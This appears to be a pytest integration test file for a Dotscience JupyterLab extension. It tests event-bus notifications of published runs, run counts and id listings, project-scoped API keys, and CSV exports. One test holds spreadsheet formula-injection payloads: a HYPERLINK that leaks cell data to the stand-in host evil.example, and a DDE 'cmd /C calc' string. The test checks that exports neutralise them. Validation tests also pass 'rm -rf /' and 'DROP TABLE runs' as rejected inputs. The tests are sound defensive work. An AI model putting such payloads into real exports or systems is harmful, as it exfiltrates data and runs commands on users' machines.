"""Issue 14, the live list and the total: a run published through HTTP with an API key is
pushed to every subscriber of Jupyter's event bus (``/api/events/subscribe``) within a
moment; ``GET runs`` says how many runs the filter matches and ``GET runs/ids`` lists them
all; a project-limited key counts and lists only its project."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import urllib.parse
import uuid

import pytest
from tornado.httpclient import HTTPRequest
from tornado.websocket import websocket_connect

from ..store.records import record
from .conftest import basic_auth, create_key, http, token_auth

EVENT = "https://events.dotscience.io/jupyterlab_dotscience/run_published/v1"


def publish(server, auth, **fields) -> str:
    rec = record(writes=[], reads=[], **fields)
    status, body = http("POST", server.url + "dotscience/api/runs", rec, auth)
    assert status == 201, body
    return rec["id"]


def get(server, path, auth, **query):
    url = server.url + "dotscience/api/" + path
    if query:
        url += "?" + urllib.parse.urlencode(query, doseq=True)
    return http("GET", url, None, auth)


async def _subscribe(server):
    ws_url = server.url.replace("http://", "ws://", 1) + "api/events/subscribe"
    return await websocket_connect(HTTPRequest(ws_url, headers=token_auth(server)))


async def _next_run_event(ws, deadline: float) -> dict:
    """The next run-published message on the socket (other events are skipped)."""
    loop = asyncio.get_running_loop()
    while True:
        left = deadline - loop.time()
        if left <= 0:
            raise TimeoutError("no run-published event arrived")
        message = await asyncio.wait_for(ws.read_message(), left)
        assert message is not None, "the event socket closed"
        event = json.loads(message)
        if event.get("schema_id") == EVENT:
            return event


def test_a_run_published_with_an_api_key_reaches_every_event_subscriber(live):
    # Given two JupyterLab tabs subscribed to the server's event bus, and an API key
    key = create_key(live, "live-list")
    auth = basic_auth("alice", key["key"])

    async def scenario():
        first, second = await _subscribe(live), await _subscribe(live)
        loop = asyncio.get_running_loop()
        # When a run is published through HTTP with the key
        run_id = await loop.run_in_executor(None, lambda: publish(live, auth, project="iris"))
        # Then both subscribers receive the run-published event naming it
        deadline = loop.time() + 30
        got = [await _next_run_event(ws, deadline) for ws in (first, second)]
        first.close()
        second.close()
        return run_id, got

    run_id, got = asyncio.run(scenario())
    for event in got:
        assert event["id"] == run_id
        assert event["project"] == "iris"
        assert event["status"] == "succeeded"
        assert event["received"].endswith("Z")


def test_publishing_the_same_run_again_sends_no_second_event(live):
    # Given a subscriber and a run published once
    key = create_key(live, "live-list-repeat")
    auth = basic_auth("alice", key["key"])
    rec = record(writes=[], reads=[], project="iris")

    async def scenario():
        ws = await _subscribe(live)
        loop = asyncio.get_running_loop()
        post = lambda: http("POST", live.url + "dotscience/api/runs", rec, auth)  # noqa: E731
        status, _ = await loop.run_in_executor(None, post)
        assert status == 201
        first = await _next_run_event(ws, loop.time() + 30)
        # When the same record is posted again (an idempotent retry), then another run
        status, _ = await loop.run_in_executor(None, post)
        assert status == 200
        other = await loop.run_in_executor(None, lambda: publish(live, auth))
        # Then the next event is the other run's: the retry announced nothing
        following = await _next_run_event(ws, loop.time() + 30)
        ws.close()
        return first, following, other

    first, following, other = asyncio.run(scenario())
    assert first["id"] == rec["id"]
    assert following["id"] == other


def test_an_api_key_cannot_subscribe_to_the_event_bus(live):
    # Given an API key (which reads runs only through the Dotscience API and its checks)
    key = create_key(live, "live-list-ws")
    ws_url = live.url.replace("http://", "ws://", 1) + "api/events/subscribe"

    async def attempt():
        await websocket_connect(HTTPRequest(ws_url, headers=basic_auth("alice", key["key"])))

    # When it tries to subscribe to the server's events
    # Then it is refused (so a project-limited key learns nothing of other projects' runs)
    with pytest.raises(Exception) as refused:
        asyncio.run(attempt())
    assert getattr(refused.value, "code", None) in (401, 403), refused.value


@pytest.fixture(scope="module")
def counted(live):
    """1,203 runs: 1,100 in project tally with alpha 0..1099, 103 in project spare."""
    key = create_key(live, "counted")
    auth = basic_auth("alice", key["key"])
    tally = [publish(live, auth, project="tally", params={"alpha": i}) for i in range(1100)]
    spare = [publish(live, auth, project="spare") for _ in range(103)]
    return tally, spare


def test_get_runs_returns_the_total_for_the_filter_not_the_page(live, counted):
    tally, _ = counted
    # Given 1,100 runs in project tally
    # When a page of 10 of them is listed, filtered to alpha < 250
    status, body = get(live, "runs", token_auth(live), project="tally", limit=10,
                       param="alpha<250")  # fmt: skip
    # Then the answer has 10 runs and says 250 match
    assert status == 200, body
    assert len(body["runs"]) == 10 and body["total"] == 250
    # And the next page says the same total
    status, body = get(live, "runs", token_auth(live), project="tally", limit=10,
                       param="alpha<250", cursor=body["next_cursor"])  # fmt: skip
    assert status == 200 and body["total"] == 250
    # And without the filter the total is the project's
    assert get(live, "runs", token_auth(live), project="tally", limit=1)[1]["total"] == 1100


def test_get_run_ids_lists_every_match_in_the_listing_order(live, counted):
    tally, _ = counted
    # Given 1,100 runs in project tally with alpha 0..1099
    # When every id with alpha >= 50 is asked for, sorted by alpha
    status, body = get(live, "runs/ids", token_auth(live), project="tally",
                       param="alpha>=50", sort="param:alpha")  # fmt: skip
    # Then all 1,050 come back in that order (more than a page of GET runs) with the total
    assert status == 200, body
    assert body["ids"] == tally[50:]
    assert body["total"] == 1050


def test_a_project_limited_key_counts_and_lists_only_its_project(live, counted):
    _, spare = counted
    # Given a key limited to project spare
    key = create_key(live, "spare-only", project="spare")
    auth = basic_auth("alice", key["key"])
    # When it lists runs and ids with no project filter
    status, page = get(live, "runs", auth, limit=5)
    status_ids, ids = get(live, "runs/ids", auth)
    # Then it counts and sees only project spare's 103 runs
    assert status == 200 and page["total"] == 103
    assert status_ids == 200 and ids["total"] == 103
    assert sorted(ids["ids"]) == sorted(spare)
    # And asking for another project is refused
    status, body = get(live, "runs/ids", auth, project="tally")
    assert status == 403, body


@pytest.mark.parametrize(
    "query, sentence",
    [
        ({"limit": "lots"}, "limit"),
        ({"limit": "0"}, "limit"),
        ({"limit": "100001"}, "limit"),
        ({"sort": "colour"}, "sort"),
        ({"param": "alpha"}, "param filter"),
        ({"status": "maybe"}, "status"),
    ],
)
def test_bad_ids_queries_are_a_400_with_one_sentence(live, query, sentence):
    # Given a caller sending a malformed query to GET runs/ids
    # When it is answered
    status, body = get(live, "runs/ids", token_auth(live), **query)
    # Then it is a 400 naming the bad field
    assert status == 400, body
    assert sentence in body["error"]


def test_a_run_without_a_notebook_snapshot_is_said_without_an_error_status(live):
    # Given a run published with an API key (no notebook snapshot)
    key = create_key(live, "no-snapshot")
    run_id = publish(live, basic_auth("alice", key["key"]))
    url = f"runs/{run_id}/notebook"
    # When the browser asks for its snapshot saying an absent one is expected
    status, body = get(live, url, token_auth(live), missing="empty")
    # Then the answer is 204 with nothing in it (no error logged in the console)
    assert status == 204 and body == b""
    # And older clients still get the 404 with its sentence
    status, body = get(live, url, token_auth(live))
    assert status == 404 and "no notebook snapshot" in body["error"]
    # And a bad value is a 400, and an unknown run stays a 404 either way
    assert get(live, url, token_auth(live), missing="maybe")[0] == 400
    other = f"runs/{'0' * 8}-0000-4000-8000-{'0' * 12}/notebook"
    assert get(live, other, token_auth(live), missing="empty")[0] == 404


def test_runs_stored_by_an_import_reach_event_subscribers_too(live):
    # Given a subscriber, and a legacy v1 block (as a 0.8.7 script printed it)
    from dotscience import v1

    key = create_key(live, "live-list-import")
    auth = basic_auth("alice", key["key"])
    run_id = str(uuid.uuid4())
    text = v1.format_block(run_id, {"version": "1", "description": "from an old log"})

    async def scenario():
        ws = await _subscribe(live)
        loop = asyncio.get_running_loop()
        # When it is imported (a path other than POST runs stores the run)
        post = lambda: http(  # noqa: E731
            "POST", live.url + "dotscience/api/import", {"text": text}, auth
        )
        status, body = await loop.run_in_executor(None, post)
        assert status == 200 and body["imported"] == 1, body
        # Then the subscriber hears of it like of a published run
        event = await _next_run_event(ws, loop.time() + 30)
        ws.close()
        return event

    assert asyncio.run(scenario())["id"] == run_id


def csv_of(server, auth, **query) -> tuple[int, list[list[str]] | object]:
    """``GET runs/csv``: the status and the file's rows (or the error's body)."""
    status, body = get(server, "runs/csv", auth, **query)
    if status != 200:
        return status, body
    return status, list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


def test_the_runs_table_downloads_as_csv_every_match_in_its_order_with_its_columns(live, counted):
    tally, _ = counted
    # Given 1,100 runs in project tally with alpha 0..1099 (more than a page of the store)
    # When the table filtered to alpha >= 50 and sorted by alpha downloads as CSV with
    # its columns: the name, alpha, the last and smallest accuracy, and a label
    status, rows = csv_of(live, token_auth(live), project="tally", param="alpha>=50",
                          sort="param:alpha",
                          column=["field:name", "param:alpha", "metric:accuracy:last",
                                  "metric:accuracy:min", "label:team", "field:status"])  # fmt: skip
    # Then it has a heading line, then all 1,050 matches in that order, each with its values
    assert status == 200, rows
    assert rows[0] == ["run_id", "Run", "alpha", "accuracy", "accuracy (min)", "team", "Status"]
    assert [r[0] for r in rows[1:]] == tally[50:]
    assert rows[1][1:] == ["train a model", "50", "0.9", "0.9", "ml", "succeeded"]
    assert rows[-1][2] == "1099"
    # And a limit keeps the first runs only
    status, rows = csv_of(live, token_auth(live), project="tally", sort="param:alpha",
                          column="param:alpha", limit=3)  # fmt: skip
    assert [r[1] for r in rows] == ["alpha", "0", "1", "2"]


def test_a_project_limited_key_downloads_only_its_project(live, counted):
    _, spare = counted
    # Given a key limited to project spare
    key = create_key(live, "spare-csv", project="spare")
    auth = basic_auth("alice", key["key"])
    # When it downloads the table with no project filter
    status, rows = csv_of(live, auth, column="field:project")
    # Then it gets project spare's 103 runs, nothing else
    assert status == 200, rows
    assert sorted(r[0] for r in rows[1:]) == sorted(spare)
    assert {r[1] for r in rows[1:]} == {"spare"}
    # And asking for another project is refused
    assert csv_of(live, auth, project="tally", column="field:name")[0] == 403


def test_a_value_a_spreadsheet_would_run_is_written_as_text(live):
    # Given runs another user published whose parameter, label and description are
    # spreadsheet formulas, and a negative number
    auth = token_auth(live)
    project = f"formula{uuid.uuid4().hex[:8]}"
    rec = record(writes=[], reads=[], project=project,
                 description='=HYPERLINK("http://evil.example/?"&A1,"open")',
                 params={"cmd": "@SUM(1+1)*cmd|' /C calc'!A0", "lr": -0.5},
                 labels={"note": "+1+2", "tab": "\tx"})  # fmt: skip
    status, body = http("POST", live.url + "dotscience/api/runs", rec, auth)
    assert status == 201, body
    # When the table downloads as CSV
    status, rows = csv_of(live, auth, project=project,
                          column=["field:name", "param:cmd", "param:lr", "label:note",
                                  "label:tab"])  # fmt: skip
    # Then every formula starts with a quote (a spreadsheet shows it as text and runs
    # nothing), and the number is left as it is
    assert status == 200, rows
    assert rows[1][1:] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "-0.5",
        "'+1+2",
        "'\tx",
    ]


def csv_posted(server, auth, body, **query) -> tuple[int, list[list[str]] | object]:
    """``POST runs/csv`` (the columns in the body): the status and the file's rows."""
    url = server.url + "dotscience/api/runs/csv"
    if query:
        url += "?" + urllib.parse.urlencode(query, doseq=True)
    status, raw = http("POST", url, body, auth)
    if status != 200:
        return status, raw
    return status, list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))


def wide_runs(server, auth, prefix: str, name: str) -> tuple[str, list[str], list[str]]:
    """Two runs in a new project ``<prefix><hex>``, each with 3,000 parameters
    ``<name>_0000``.. (run i's k-th is i * 10000 + k): the project, the keys, the run ids."""
    project = f"{prefix}{uuid.uuid4().hex[:8]}"
    keys = [f"{name}_{k:04d}" for k in range(3000)]
    ids = [
        publish(
            server, auth, project=project, params={k: i * 10000 + n for n, k in enumerate(keys)}
        )
        for i in range(2)
    ]
    return project, keys, ids


def test_a_table_too_wide_for_an_address_downloads_with_its_columns_in_the_body(live):
    # Given two runs with 3,000 parameters each, in a project of their own
    auth = token_auth(live)
    project, keys, ids = wide_runs(live, auth, "wide", "learning_rate_of_layer")
    columns = ["field:name", *(f"param:{k}" for k in keys), "metric:accuracy:max"]
    # (the columns alone are over 100 KB of address, more than a server reads of a head)
    assert len(urllib.parse.urlencode({"column": columns}, doseq=True)) > 100_000
    # When the table downloads as CSV, its filters in the query and its columns in the body
    status, rows = csv_posted(live, auth, {"columns": columns}, project=project,
                              sort="param:learning_rate_of_layer_0000")  # fmt: skip
    # Then the file has every column in order, then each run in the sort's order
    assert status == 200, rows
    assert rows[0] == ["run_id", "Run", *keys, "accuracy (max)"]
    assert [r[0] for r in rows[1:]] == ids
    assert rows[2][1:4] == ["train a model", "10000", "10001"]
    assert rows[2][3001] == "12999" and rows[2][3002] == "0.9"
    # And it is the file GET gives for as many columns as an address holds
    few = columns[:50]
    status, got = csv_of(live, auth, project=project, sort="param:learning_rate_of_layer_0000",
                         column=few)  # fmt: skip
    assert status == 200
    assert csv_posted(live, auth, {"columns": few}, project=project,
                      sort="param:learning_rate_of_layer_0000")[1] == got  # fmt: skip
    # And a key limited to another project reads none of it
    key = create_key(live, "wide-csv", project="spare")
    spare = basic_auth("alice", key["key"])
    assert csv_posted(live, spare, {"columns": columns}, project=project)[0] == 403
    status, rows = csv_posted(live, spare, {"columns": columns[:3]})
    assert status == 200 and not set(ids) & {r[0] for r in rows[1:]}


@pytest.mark.parametrize(
    "body, query, sentence",
    [
        ({}, {}, '{"columns": [column id, ...]}'),
        ({"columns": "field:name"}, {}, '{"columns": [column id, ...]}'),
        ({"columns": [1, 2]}, {}, "each id a string"),
        ({"columns": ["field:name"], "sql": "DROP TABLE runs"}, {}, "nothing else"),
        ([], {}, '{"columns": [column id, ...]}'),
        ({"columns": ["script:rm -rf /"]}, {}, "the kinds are"),
        ({"columns": ["field:name"] * 2 + [f"param:p{i}" for i in range(5001)]}, {}, "columns"),
        ({"columns": ["field:name"]}, {"column": "field:status"}, "in the body only"),
        ({"columns": ["field:name"]}, {"sort": "colour"}, "sort"),
        (b"columns=field:name", {}, "not valid JSON"),
    ],
)
def test_bad_csv_bodies_are_a_400_with_one_sentence(live, body, query, sentence):
    # Given a caller posting a malformed body (or query) to POST runs/csv
    status, answer = csv_posted(live, token_auth(live), body, **query)
    # Then it is a 400 naming what is wrong, before any of the file is written
    assert status == 400, answer
    assert sentence in answer["error"]


@pytest.mark.parametrize(
    "query, sentence",
    [
        ({"column": "colour"}, "expected <kind>:<key>"),
        ({"column": "field:secret"}, "the fields are"),
        ({"column": "script:rm -rf /"}, "the kinds are"),
        ({"column": "metric:loss:median"}, "metric:<key>:<last|min|max>"),
        ({"column": "param:"}, "expected <kind>:<key>"),
        ({"column": "field:name", "limit": "0"}, "limit"),
        ({"column": "field:name", "sort": "colour"}, "sort"),
        ({"column": "field:name", "param": "alpha"}, "param filter"),
    ],
)
def test_bad_csv_queries_are_a_400_with_one_sentence(live, query, sentence):
    # Given a caller sending a malformed query to GET runs/csv
    status, body = get(live, "runs/csv", token_auth(live), **query)
    # Then it is a 400 naming what is wrong, before any of the file is written
    assert status == 400, body
    assert sentence in body["error"]


def test_a_wide_export_is_downloaded_by_address_once_by_its_maker(live):
    # Given two runs with 3,000 parameters each, in a project of their own
    auth = token_auth(live)
    project, keys, ids = wide_runs(live, auth, "export", "weight_decay_of_layer")
    columns = ["field:name", *(f"param:{k}" for k in keys)]
    query = {"project": project, "sort": "param:weight_decay_of_layer_0000"}
    # When the Runs table posts its columns for an export
    url = live.url + "dotscience/api/runs/csv/exports?" + urllib.parse.urlencode(query)
    status, made = http("POST", url, {"columns": columns}, auth)
    # Then it gets an address to download, for a while
    assert status == 201, made
    assert made["url"] == f"/dotscience/api/runs/csv/exports/{made['id']}"
    assert len(made["id"]) >= 24 and made["expires_in"] == 120
    # And an API key (of the same user, signed in another way) cannot download it
    key = create_key(live, "export-other")
    status, body = http("GET", live.url + made["url"].lstrip("/"), None,
                        basic_auth("alice", key["key"]))  # fmt: skip
    assert status == 404, body
    # When its maker downloads it
    status, raw = http("GET", live.url + made["url"].lstrip("/"), None, auth)
    # Then it is the file POST runs/csv gives: every column, each run in the sort's order
    assert status == 200, raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert rows == csv_posted(live, auth, {"columns": columns}, **query)[1]
    assert rows[0] == ["run_id", "Run", *keys]
    assert [r[0] for r in rows[1:]] == ids and rows[2][3001] == "12999"
    # And a second download of it is a 404 that says why
    status, body = http("GET", live.url + made["url"].lstrip("/"), None, auth)
    assert status == 404 and "downloaded once" in body["error"], body


def test_a_maker_has_at_most_8_exports_waiting_and_a_limited_key_its_project_only(live):
    # Given an API key of its own (its exports are its own)
    key = create_key(live, "export-cap")
    auth = basic_auth("alice", key["key"])
    url = live.url + "dotscience/api/runs/csv/exports"
    # When it makes 9 exports without downloading any
    answers = [http("POST", url, {"columns": ["field:name"]}, auth) for _ in range(9)]
    # Then 8 are waiting and the ninth is a 429 that says so
    assert [s for s, _ in answers] == [201] * 8 + [429], answers
    assert "8 CSV exports are waiting" in answers[8][1]["error"]
    # And another key's, or a Jupyter login's, exports are their own
    other = basic_auth("alice", create_key(live, "export-cap-2")["key"])
    assert http("GET", live.url + answers[1][1]["url"].lstrip("/"), None, other)[0] == 404
    assert http("POST", url, {"columns": ["field:name"]}, other)[0] == 201
    assert http("POST", url, {"columns": ["field:name"]}, token_auth(live))[0] == 201
    # And downloading one makes room for another
    assert http("GET", live.url + answers[0][1]["url"].lstrip("/"), None, auth)[0] == 200
    assert http("POST", url, {"columns": ["field:name"]}, auth)[0] == 201
    # And a key limited to project spare may not export another project
    spare = basic_auth("alice", create_key(live, "export-spare", project="spare")["key"])
    assert http("POST", url + "?project=tally", {"columns": ["field:name"]}, spare)[0] == 403


@pytest.mark.parametrize(
    "body, query, sentence",
    [
        ({"columns": "field:name"}, {}, '{"columns": [column id, ...]}'),
        ({"columns": ["script:rm -rf /"]}, {}, "the kinds are"),
        ({"columns": ["field:name"]}, {"column": "field:status"}, "in the body only"),
        ({"columns": ["field:name"]}, {"sort": "colour"}, "sort"),
        ({"columns": ["field:name"]}, {"limit": "0"}, "limit"),
    ],
)
def test_a_bad_export_is_a_400_with_one_sentence(live, body, query, sentence):
    # Given a caller posting a malformed export
    url = live.url + "dotscience/api/runs/csv/exports"
    if query:
        url += "?" + urllib.parse.urlencode(query)
    status, answer = http("POST", url, body, token_auth(live))
    # Then it is a 400 naming what is wrong (checked as POST runs/csv checks it)
    assert status == 400, answer
    assert sentence in answer["error"]
